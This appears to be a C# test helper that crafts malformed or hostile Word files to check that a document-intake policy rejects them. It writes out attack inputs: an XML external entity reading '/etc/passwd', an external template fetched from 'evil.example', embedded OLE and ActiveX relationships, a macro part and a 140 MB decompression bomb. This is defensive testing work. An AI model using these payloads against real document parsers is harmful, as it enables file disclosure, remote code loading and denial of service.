using System.IO.Compression;
using System.Text;

namespace Sonae.Tests.Policies.Returns;

/// <summary>Word files that would do harm or are none, made of a whole one.</summary>
internal static class HostileWord
{
    public static byte[] Of(string kind, byte[] whole) => kind switch
    {
        "macro" => new WordEdits(whole).Part("word/vbaProject.bin", "x").Build(),
        "type" => new WordEdits(whole).InPart("[Content_Types].xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml").Build(),
        "ole" => Related(whole, "oleObject", "embeddings/oleObject1.bin", ""),
        "activex" => Related(whole, "control", "activeX/activeX1.xml", ""),
        "template" => Related(whole, "attachedTemplate", "https://evil.example/t.dotm", " TargetMode=\"External\""),
        "entity" => new WordEdits(whole).Part("word/styles.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><styles>&e;</styles>").Build(),
        "bomb" => new WordEdits(whole).Part("word/media/zeros.xml", new string('0', 140 << 20)).Build(),
        "doc" => Compound("WordDocument"),
        "password" => Compound("EncryptedPackage"),
        "rtf" => "{\\rtf1 text}"u8.ToArray(),
        "odt" => Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>")),
        "text" => "ただの文字"u8.ToArray(),
        "cut" => whole[..(whole.Length / 2)],
        "number" => new WordEdits(whole).Replace("表示のない情報は", "番号 123456789018 は").Build(),
        "edition" => new WordEdits(whole).InPart("docProps/custom.xml", "ipa-2", "ipa-9").Build(),
        "issue" => new WordEdits(whole).InPart("docProps/custom.xml", "SonaeIssue\"><vt:lpwstr>", "SonaeIssue\"><vt:lpwstr>f").Build(),
        _ => [],
    };

    private static byte[] Related(byte[] whole, string kind, string target, string mode) => new WordEdits(whole).InPart("word/_rels/document.xml.rels", "</Relationships>",
        $"<Relationship Id=\"rIdX\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\"{mode}/></Relationships>").Build();

    // The head of a compound file and one entry of its directory, which is all that tells the kinds apart.
    private static byte[] Compound(string stream)
    {
        var file = new byte[1024];
        byte[] head = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        head.CopyTo(file, 0);
        Encoding.Unicode.GetBytes(stream).CopyTo(file, 512);
        file[512 + 64] = (byte)((stream.Length * 2) + 2);
        return file;
    }

    private static byte[] Zip(params (string Name, string Content)[] parts)
    {
        using var file = new MemoryStream();
        using (var zip = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, content) in parts)
            {
                using var entry = new StreamWriter(zip.CreateEntry(name).Open());
                entry.Write(content);
            }
        return file.ToArray();
    }
}
